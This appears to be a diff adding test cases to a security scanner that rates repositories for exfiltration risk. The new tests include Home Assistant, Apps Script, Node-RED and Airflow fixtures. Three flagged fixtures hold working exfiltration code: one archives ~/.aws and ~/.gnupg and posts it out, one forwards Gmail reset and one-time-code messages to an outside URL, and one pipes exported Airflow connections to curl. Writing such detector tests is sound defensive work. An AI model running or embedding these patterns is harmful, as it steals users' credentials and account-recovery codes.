@@ -247,3 +247,97 @@ def test_snowflake_unload_through_storage_integration_is_quiet() -> None:
         },
     )
     assert res.risk not in HIGH, _why(res)
+
+
+def test_home_assistant_rest_command_with_the_services_own_key_is_quiet() -> None:
+    payload = '{"token": "{{ states(\'input_text.pushover_app_token\') }}", "message": "Everyone left"}'
+    res = _scan(
+        "ha-vacation-mode",
+        "Home Assistant vacation mode package with Pushover alerts.",
+        "Put `packages/vacation.yaml` into your config.",
+        {"packages/vacation.yaml": _ha("https://api.pushover.net/1/messages.json", payload)},
+    )
+    assert "E033" not in _rules(res), _why(res)
+    assert res.risk not in HIGH, _why(res)
+
+
+def test_apps_script_sending_codes_to_the_user_themself_is_quiet() -> None:
+    res = _scan(
+        "gmail-digest",
+        "Collect your login codes in one daily mail.",
+        "Paste `src/Digest.gs` into the Apps Script editor.",
+        {
+            "src/Digest.gs": "function relay() {\n"
+            "  var n = GmailApp.search('newer_than:1d \"verification code\"').length;\n"
+            "  GmailApp.sendEmail(Session.getActiveUser().getEmail(), 'Codes today', String(n));\n}\n"
+        },
+    )
+    assert res.risk not in HIGH, _why(res)
+
+
+def _node_red(cmd: str, url: str) -> str:
+    return (
+        '[{"id": "a1", "type": "inject", "repeat": "3600"},'
+        f' {{"id": "b2", "type": "exec", "command": "{cmd}", "wires": [["c3"]]}},'
+        f' {{"id": "c3", "type": "http request", "method": "POST", "url": "{url}"}}]'
+    )
+
+
+def test_node_red_flow_posting_aws_folder_is_high() -> None:
+    res = _scan(
+        "node-red-housekeeping",
+        "Node-RED flow for hourly housekeeping.",
+        "Import `flows/housekeeping.json` from the Node-RED menu.",
+        {"flows/housekeeping.json": _node_red("tar cz -C $HOME .aws .gnupg | base64", "https://nr.flowkeep-hq.net/k")},
+    )
+    assert "E033" in _rules(res), _why(res)
+
+
+def test_node_red_flow_posting_uptime_is_quiet() -> None:
+    res = _scan(
+        "node-red-housekeeping",
+        "Node-RED flow for hourly housekeeping.",
+        "Import `flows/housekeeping.json` from the Node-RED menu.",
+        {"flows/housekeeping.json": _node_red("uptime", "https://nr.flowkeep-hq.net/k")},
+    )
+    assert res.risk not in HIGH, _why(res)
+
+
+def test_apps_script_posting_reset_mails_with_urlfetch_is_high() -> None:
+    res = _scan(
+        "inbox-cleaner",
+        "Archive old newsletters in Gmail.",
+        "Paste `Cleaner.gs` into the Apps Script editor.",
+        {
+            "Cleaner.gs": "var SINK = 'https://mx-archive.inboxtidy-tools.org/a';\n"
+            "function tidy() {\n"
+            "  var t = GmailApp.search('subject:(reset OR \"one-time\") newer_than:2d');\n"
+            "  var body = t.map(function (x) { return x.getMessages()[0].getPlainBody(); }).join('\\n');\n"
+            "  UrlFetchApp.fetch(SINK, {method: 'post', payload: body, muteHttpExceptions: true});\n}\n"
+        },
+    )
+    assert "E033" in _rules(res), _why(res)
+
+
+def test_airflow_connection_export_uploaded_from_a_shell_script_is_high() -> None:
+    res = _scan(
+        "airflow-ops",
+        "Operational helpers for Airflow deployments.",
+        "Run `scripts/backup.sh` after upgrades.",
+        {
+            "scripts/backup.sh": "#!/bin/sh\nairflow db check\n"
+            "airflow connections export - --file-format json | curl -s --data-binary @- "
+            "https://af-backup.dagvault-cloud.net/c\n"
+        },
+    )
+    assert "E036" in _rules(res), _why(res)
+
+
+def test_airflow_connection_export_to_a_local_file_is_quiet() -> None:
+    res = _scan(
+        "airflow-ops",
+        "Operational helpers for Airflow deployments.",
+        "Run `scripts/backup.sh` after upgrades.",
+        {"scripts/backup.sh": "#!/bin/sh\nairflow connections export /backups/conns.json --file-format json\n"},
+    )
+    assert res.risk not in HIGH, _why(res)
